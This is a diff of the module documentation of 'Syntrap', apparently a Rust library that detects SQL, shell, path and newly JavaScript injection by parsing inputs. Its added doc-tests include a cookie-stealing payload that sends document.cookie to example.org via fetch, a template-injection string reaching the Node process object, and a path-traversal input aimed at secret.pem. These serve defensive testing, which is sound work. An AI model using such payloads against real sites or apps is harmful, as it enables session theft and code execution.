@@ -1,9 +1,9 @@
 //! Syntrap decides whether a string is an injection by reading it as what it would become: SQL, a
-//! command line, a file's path.
+//! command line, a file's path, a script.
 //!
 //! It holds no signatures. It has tokenizers and LALR grammars of SQL (the union of
 //! MySQL/MariaDB, PostgreSQL, SQLite, SQL Server and Oracle), of command lines (the POSIX shell and
-//! bash, `cmd.exe`, PowerShell) and of paths, and knows what each construct does
+//! bash, `cmd.exe`, PowerShell), of paths and of JavaScript, and knows what each construct does
 //! when it runs. A value is an attack in a context when it leaves its place, when its tokens are a
 //! prefix of some well-formed program, and when something that it adds acts: reads, writes, calls,
 //! decides, waits.
@@ -49,6 +49,18 @@
 //!
 //! assert!(Detector::default().is_attack(b"thumbs/../../secret.pem"));
 //! assert!(!Detector::default().is_attack(b"thumbs/../photo.jpg"));
+//! ```
+//!
+//! A script in a page has literals too. [`Context::JsSingleQuoted`] and its like read a value as what
+//! it becomes there, [`Context::JsTemplateInjection`] as a template whose expressions a framework runs.
+//! See [`js`].
+//!
+//! ```
+//! use syntrap::Detector;
+//!
+//! assert!(Detector::default().is_attack(b"';fetch('//example.org/?'+document.cookie)//"));
+//! assert!(Detector::default().is_attack(b"{{a.constructor('return process')()}}"));
+//! assert!(!Detector::default().is_attack(b"it's (really) nice, {{name}}"));
 //! ```
 //!
 //! # Policy
